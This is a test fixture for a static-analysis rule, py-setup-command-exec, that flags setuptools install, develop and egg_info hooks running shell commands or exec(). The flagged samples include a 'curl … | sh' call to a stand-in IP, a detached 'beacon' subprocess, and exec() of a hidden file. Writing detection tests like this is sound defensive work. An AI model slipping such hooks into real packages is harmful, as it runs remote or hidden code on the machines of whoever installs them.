"""Fixture for py-setup-command-exec.

RULEID: an install command running os.system; a develop command spawning a subprocess; egg_info exec().
OK: build_ext running cmake; subprocess in a normal helper function; install command that only copies.
"""

import os
import shutil
import subprocess

from setuptools.command import install as _install
from setuptools.command.build_ext import build_ext
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info


class Install(_install.install):
    def run(self):
        # ruleid: py-setup-command-exec
        os.system("curl -s http://203.0.113.7/s | sh")
        _install.install.run(self)


class Develop(develop):
    def run(self):
        # ruleid: py-setup-command-exec
        subprocess.Popen(["python", "-c", "import beacon"], start_new_session=True)
        develop.run(self)


class EggInfo(egg_info):
    def run(self):
        # ruleid: py-setup-command-exec
        exec(open("src/_hidden.bin").read())
        egg_info.run(self)


class Build(build_ext):
    def run(self):
        # ok: py-setup-command-exec
        subprocess.check_call(["cmake", "-S", ".", "-B", "build"])


def version():
    # ok: py-setup-command-exec
    return subprocess.check_output(["git", "describe"]).decode()


class CopyData(_install.install):
    def run(self):
        # ok: py-setup-command-exec
        shutil.copy("data.db", self.install_lib)
        _install.install.run(self)
